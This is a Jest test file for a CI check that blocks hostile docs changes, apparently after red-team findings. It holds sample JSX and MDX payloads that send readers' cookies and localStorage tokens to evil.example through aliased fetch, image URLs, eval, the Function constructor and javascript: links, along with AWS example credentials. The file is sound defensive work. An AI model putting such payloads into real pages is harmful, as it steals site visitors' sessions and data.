import { describe, expect, test } from '@jest/globals'
import { runCheck, withEmulator } from '../harness.js'
import { agentPull, findings, statuses } from './agent-pull.js'

const it = test.concurrent

/**
 * Issue #52, the red team's second look at the judge (their redteam 2, 3, 4 and 8), through the
 * check action's bundle against the emulator, as the docs repository's required check. On 1.5.1
 * (and the first fix) each passed, or failed the step on every re-run: the judge of code files
 * was a list of what is known to be harmful, which an alias, a name put together or a prototype
 * walks around; a page's URL given by an expression was not read; a page too long to parse gave
 * no keys to the redaction; a deep docs.json ran the judge out of stack.
 */

const PAGE_BASE = '---\ntitle: Quickstart\n---\n\n# Quickstart\n\nInstall the SDK.\n'
const SNIPPETS = { 'allowed-paths': 'defaults\nsnippets/**/*.jsx' }

describe('redteam 2: a component the team allows is held to an allow-list, not a list of known harms', () => {
  it.each([
    [
      'a remote script whose tag name is put together at run time',
      [
        'export const Analytics = () => {',
        "  const s = document.createElement('scr' + 'ipt')",
        "  s.src = 'https://evil.example/track.js'",
        '  document.head.appendChild(s)',
        '  return null',
        '}',
      ],
      [2, 'script', '`document`, a global the check does not allow'],
    ],
    [
      "the reader's cookies sent through aliases of document and fetch",
      [
        'export const Beacon = () => {',
        '  const d = document',
        '  const send = fetch',
        "  send('https://evil.example/c?' + d.cookie)",
        '  return null',
        '}',
      ],
      [3, 'script', '`fetch`, a global the check does not allow'],
    ],
    [
      'eval taken out of window by destructuring',
      [
        'export const Run = ({ code }) => {',
        '  const { eval: run } = window',
        "  run(atob('ZmV0Y2goImh0dHBzOi8vZXZpbC5leGFtcGxlIik='))",
        '  return null',
        '}',
      ],
      [2, 'script', '`window`, a global the check does not allow'],
    ],
    [
      'the Function constructor through an alias',
      [
        'export const Run = () => {',
        '  const F = [].constructor.constructor',
        "  F('return fetch(\\'https://evil.example/\\' + localStorage.token)')()",
        '  return null',
        '}',
      ],
      [2, 'script', 'the property `constructor`, which reaches constructors and prototypes'],
    ],
    [
      "readers' storage sent as an image's address",
      [
        'export const Pixel = () => {',
        "  new Image().src = 'https://evil.example/p?t=' + localStorage.getItem('session')",
        '  return null',
        '}',
      ],
      [2, 'script', '`localStorage`, a global the check does not allow'],
    ],
  ])('%s: failure, naming what it reaches', (_, lines, expected) => {
    return withEmulator({}, async (emulator) => {
      const pull = agentPull(emulator, [
        { path: 'snippets/widget.jsx', head: `${lines.join('\n')}\n` },
      ])
      const run = await runCheck(emulator, SNIPPETS, pull.env)
      expect(run.outputs['change-check']).toBe('blocked')
      expect(findings(run.outputs, 'line')).toContainEqual(expected)
      expect(statuses(emulator)[0]?.[0]).toBe('failure')
    })
  })

  it('a component that only shows state, lists and links passes: the allow-list holds what components do', async () => {
    await withEmulator({}, async (emulator) => {
      const component = [
        'export const Steps = ({ items = [], href }) => {',
        '  const [open, setOpen] = useState(0)',
        '  const label = `Step ${open + 1} of ${items.length}`',
        '  return (',
        '    <div className={open ? "steps open" : "steps"} style={{ margin: 0 }}>',
        '      <a href={href}>{label}</a> <a href={`/guides/${open}`}>Guide</a>',
        '      {items.map((item, i) => <button key={item.id} onClick={() => setOpen(i)}>{item.title}</button>)}',
        '    </div>',
        '  )',
        '}',
      ]
      const pull = agentPull(emulator, [
        { path: 'snippets/steps.jsx', head: `${component.join('\n')}\n` },
      ])
      const run = await runCheck(emulator, SNIPPETS, pull.env)
      expect(run.outputs['change-check']).toBe('passed')
      expect(statuses(emulator)[0]?.[0]).toBe('success')
    })
  })
})

describe('redteam 3: a page’s URL given by an expression is judged as the string it gives', () => {
  it.each([
    [
      'an exported string',
      "export const docs = 'javascript:fetch(`//evil.example/`+document.cookie)'\n\n<a href={docs}>Open the docs</a>\n",
      [9, 'script', 'javascript: URL'],
    ],
    [
      'a concatenation',
      "<a href={'java' + 'script:alert(document.domain)'}>Open</a>\n",
      [9, 'script', 'javascript: URL'],
    ],
    [
      'a template with a placeholder',
      '<a href={`java${"script"}:alert(document.domain)`}>Open</a>\n',
      [9, 'script', 'javascript: URL'],
    ],
    [
      'a conditional',
      "<Card title=\"Start\" href={true ? 'javascript:alert(document.domain)' : ''}>Go</Card>\n",
      [9, 'script', 'javascript: URL'],
    ],
    [
      'an array element',
      "<a href={['javascript:alert(document.domain)'][0]}>Open</a>\n",
      [9, 'script', 'javascript: URL'],
    ],
    [
      'a URL the check cannot see start harmlessly',
      "import { link } from '/snippets/links.mdx'\n\n<a href={link}>Open</a>\n",
      [11, 'unchecked', 'a URL built in code (`href`)'],
    ],
  ])('%s: failure, as the string itself is', (_, added, expected) => {
    return withEmulator({}, async (emulator) => {
      const pull = agentPull(emulator, [
        { path: 'guides/quickstart.mdx', base: PAGE_BASE, head: `${PAGE_BASE}\n${added}` },
      ])
      const run = await runCheck(emulator, {}, pull.env)
      expect(run.outputs['change-check']).toBe('blocked')
      expect(findings(run.outputs, 'line')).toContainEqual(expected)
      expect(statuses(emulator)[0]?.[0]).toBe('failure')
    })
  })
})

describe('redteam 4: a key anywhere in the change is quoted by no finding', () => {
  /** An AWS secret access key (AWS's documented example, its slashes taken out). */
  const SECRET = 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEYab'
  it('one a page past 128 KiB holds (not parsed) is taken out of a finding of another page', async () => {
    await withEmulator({}, async (emulator) => {
      const config = `aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = ${SECRET}\n`
      const big = `${PAGE_BASE}\n\`\`\`ini\n${config}\`\`\`\n\n${'Filler text of a long page.\n'.repeat(6000)}`
      const pull = agentPull(emulator, [
        { path: 'guides/credentials.mdx', base: PAGE_BASE, head: big },
        { path: 'guides/quickstart.mdx', base: PAGE_BASE, head: `${PAGE_BASE}\n{${SECRET}}\n` },
      ])
      const run = await runCheck(emulator, {}, pull.env)
      expect(run.outputs['change-check']).toBe('blocked')
      // The other page's expression is still a finding, its name taken out.
      expect(findings(run.outputs, 'line')).toContainEqual([
        9,
        'mdx-code',
        'expression with the global `[redacted credential]`',
      ])
      const shown = JSON.stringify([
        run.outputs,
        run.summary,
        run.stdout,
        emulator.github.commits.statuses,
      ])
      expect(shown).not.toContain(SECRET)
    })
  })
})

describe('redteam 8: a docs config nested deep is a finding, not a failed step', () => {
  it('docs.json nested 5,000 deep: failure, a person must review it; the step itself succeeds', async () => {
    await withEmulator({}, async (emulator) => {
      const nested = `${'['.repeat(5000)}1${']'.repeat(5000)}`
      const pull = agentPull(emulator, [
        {
          path: 'docs.json',
          base: '{ "name": "Acme" }\n',
          head: `{ "name": "Acme", "navigation": ${nested} }\n`,
        },
      ])
      const run = await runCheck(emulator, {}, pull.env)
      expect(run.code).toBe(0)
      expect(run.outputs['change-check']).toBe('blocked')
      expect(findings(run.outputs, 'line')).toEqual([
        [1, 'config', 'not a JSON object, or one nested more than 100 deep: cannot be checked'],
      ])
      expect(statuses(emulator)).toEqual([['failure', expect.any(String)]])
    })
  })
})
